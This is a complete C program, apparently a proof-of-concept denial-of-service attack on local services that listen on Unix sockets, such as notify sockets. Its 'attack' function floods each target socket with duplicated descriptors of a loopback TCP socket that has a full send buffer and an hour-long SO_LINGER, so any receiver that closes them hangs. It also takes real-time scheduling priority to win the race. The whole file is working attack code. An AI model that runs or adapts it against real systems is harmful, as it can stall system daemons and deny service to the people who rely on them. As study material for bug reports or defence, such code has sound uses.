// SPDX-License-Identifier: MIT
/*
 * linger PATH...: sends to each Unix socket, datagram or stream, copies of a TCP socket whose last close takes an
 * hour (bytes nobody reads, SO_LINGER), drops its own, and stays: the hour would end with the listener. It runs
 * before everybody else on this processor, so that the receiver's copies are the last ones whenever it reads them.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define COPIES   20
#define MESSAGES 4

static int failed(const char *what)
{
	perror(what);
	return -1;
}

static int run_first(void)
{
	struct sched_param first = { .sched_priority = 1 };
	cpu_set_t one;

	CPU_ZERO(&one);
	CPU_SET(0, &one);
	return sched_setaffinity(0, sizeof(one), &one) < 0 ? -1 : sched_setscheduler(0, SCHED_FIFO, &first);
}

/* The listener stays open and never accepts. */
static int lingering(void)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct linger linger = { .l_onoff = 1, .l_linger = 3600 };
	socklen_t length = sizeof(address);
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int small = 4096;
	static char block[65536];

	/* What is sent into these buffers does not fit: a close has something to wait for. */
	if (setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small)) < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small)) < 0 ||
	    bind(listener, (struct sockaddr *)&address, length) < 0 || listen(listener, 1) < 0 ||
	    getsockname(listener, (struct sockaddr *)&address, &length) < 0 ||
	    connect(fd, (struct sockaddr *)&address, length) < 0)
		return failed("TCP");
	while (send(fd, block, sizeof(block), MSG_DONTWAIT) > 0)
		;
	return setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger)) < 0 ? failed("SO_LINGER") : fd;
}

static int reach(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
		return fd;
	if (errno != EPROTOTYPE)
		return failed(path);
	close(fd);
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	return connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0 ? failed(path) : fd;
}

/* 1: the receiver has had enough of them and closed; @fd is not on its way. */
static int attach(int to, int fd)
{
	union {
		char bytes[CMSG_SPACE(COPIES * sizeof(int))];
		struct cmsghdr header;
	} control = { .header = { CMSG_LEN(COPIES * sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
	struct iovec text = { "READY=1", 7 };
	struct msghdr message = {
		.msg_iov = &text,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof(control),
	};

	for (int i = 0; i < COPIES; i++)
		memcpy(CMSG_DATA(&control.header) + i * sizeof(fd), &fd, sizeof(fd));
	if (sendmsg(to, &message, MSG_NOSIGNAL) >= 0)
		return 0;
	return errno == EPIPE || errno == ECONNRESET ? 1 : failed("sendmsg");
}

static int attack(const char *path)
{
	int to = reach(path);

	if (to < 0)
		return -1;
	for (int n = 0; n < MESSAGES; n++) {
		int fd = lingering(), refused = fd < 0 ? -1 : attach(to, fd);

		if (refused)
			return refused; /* with the descriptor open: the wait would be ours */
		close(fd);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (run_first() < 0)
		return 1;
	for (int i = 1; i < argc; i++) {
		if (attack(argv[i]) < 0)
			return 1;
	}
	puts("sent");
	fflush(stdout);
	pause();
	return 0;
}
